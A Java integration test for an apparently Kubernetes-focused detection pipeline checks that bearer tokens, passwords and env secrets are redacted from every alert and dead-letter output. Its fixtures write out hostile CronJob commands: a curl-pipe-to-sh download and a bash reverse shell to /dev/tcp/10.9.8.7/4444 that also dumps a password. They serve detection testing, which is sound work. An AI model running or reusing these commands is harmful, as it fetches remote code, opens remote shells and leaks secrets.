package dev.cronsentinel;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.JobConfig;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.AlertKind;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.sink.AlertJson;
import dev.cronsentinel.sink.DeadLetterJson;
import dev.cronsentinel.sink.elasticsearch.DeadLetterDocument;
import dev.cronsentinel.sink.elasticsearch.EcsAlertDocument;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.Pipelines;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16 row 11: the whole job (MiniCluster, parallelism 2, real file source) over a CronJob whose command
 * carries a bearer token, a {@code -u user:password} and an expanded secret env var, a refused attempt whose
 * user agent carries a token, and a broken record holding a secret env entry. No secret reaches the alert or
 * dead-letter sinks, in any of the formats they are written in; the redaction is visible.
 */
class SecretRedactionITCase {
    @RegisterExtension
    static final MiniClusterExtension MINI_CLUSTER = Pipelines.miniCluster();

    private static final String BEARER = "eyJhbGciOiJIUzI1NiJ9.Zm9vYmFyYmF6cXV4.c2lnbmF0dXJl";
    private static final String PASSWORD = "Tr0ub4dor-and-3";
    private static final String ENV_SECRET = "s3cr3t-from-the-env";
    private static final String AGENT_TOKEN = "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
    private static final String DEAD_LETTER_SECRET = "dead-letter-pw-42";

    @Test
    void noSecretReachesAnySink(@TempDir Path dir) throws Exception {
        Instant t0 = Instant.parse("2026-11-20T09:00:00Z");
        String workload = AuditEvents.cronJob("team-a", "exfil").id("a-1").at(t0)
                .images("registry.example.com/ops/tool:1")
                .env("DB_PASSWORD", ENV_SECRET)
                .command("/bin/sh", "-c", "curl -H 'Authorization: Bearer " + BEARER + "' -u ops:" + PASSWORD
                        + " http://10.9.8.7/x | sh")
                .json();
        // The reverse shell only shows once the scorer expands $TARGET, and the expanded evidence then also
        // holds the value of DB_PASSWORD.
        String expanded = AuditEvents.cronJob("team-a", "expand").id("a-4").at(t0.plusSeconds(2))
                .images("registry.example.com/ops/tool:1")
                .env("DB_PASSWORD", ENV_SECRET).env("TARGET", "/dev/tcp/10.9.8.7/4444")
                .command("/bin/bash", "-c", "echo $DB_PASSWORD > /tmp/p; bash -i >& $TARGET 0>&1")
                .json();
        String attempt = AuditEvents.cronJob("made-up", "probe").id("a-2").at(t0.plusSeconds(5)).code(403)
                .by("system:anonymous", "system:unauthenticated").agent("curl/8.5 token=" + AGENT_TOKEN)
                .json();
        String broken = AuditEvents.cronJob("team-b", "cut").id("a-3").at(t0.plusSeconds(9))
                .env("API_TOKEN", DEAD_LETTER_SECRET).json();
        broken = broken.substring(0, broken.indexOf(DEAD_LETTER_SECRET) + DEAD_LETTER_SECRET.length() + 2);
        Path log = dir.resolve("audit.log");
        Files.write(log, List.of(workload, expanded, attempt, broken), StandardCharsets.UTF_8);

        JobConfig config = Pipelines.jobConfig("input.file.paths", log.toString());
        Pipelines.FileRun run = Pipelines.runFiles(config, "secret redaction test");

        assertThat(run.alerts()).extracting(Alert::kind).contains(AlertKind.WORKLOAD, AlertKind.ATTEMPT);
        assertThat(run.deadLetters()).hasSize(1);
        List<String> written = new ArrayList<>();
        for (Alert a : run.alerts()) {
            written.add(AlertJson.toJson(a));
            written.add(new String(EcsAlertDocument.toJson(a), StandardCharsets.UTF_8));
        }
        for (DeadLetter d : run.deadLetters()) {
            written.add(DeadLetterJson.toJson(d));
            written.add(new String(DeadLetterDocument.toJson(d, 0L), StandardCharsets.UTF_8));
        }
        for (String out : written) {
            assertThat(out).doesNotContain(BEARER, PASSWORD, ENV_SECRET, AGENT_TOKEN, DEAD_LETTER_SECRET);
        }
        assertThat(run.alerts()).flatExtracting(Alert::signals).extracting(s -> s.value())
                .anySatisfy(v -> assertThat(v).contains("Bearer <redacted:bearer>", "ops:<redacted:password>"))
                .anySatisfy(v -> assertThat(v).contains("echo <redacted:env> > /tmp/p; bash -i >& /dev/tcp/10.9.8.7/4444"));
        assertThat(run.alerts()).filteredOn(a -> a.kind() == AlertKind.ATTEMPT).singleElement()
                .satisfies(a -> assertThat(a.userAgent()).isEqualTo("curl/8.5 token=<redacted:secret>"));
        DeadLetter letter = run.deadLetters().get(0);
        assertThat(new String(letter.payload(), StandardCharsets.UTF_8))
                .contains("\"name\":\"API_TOKEN\",\"value\":\"<redacted:secret>");
        assertThat(letter.payloadLength()).as("a whole record stays whole").isEqualTo(letter.payload().length);
        assertThat(DeadLetterJson.toJson(letter)).contains("\"payloadTruncated\":false");
    }
}
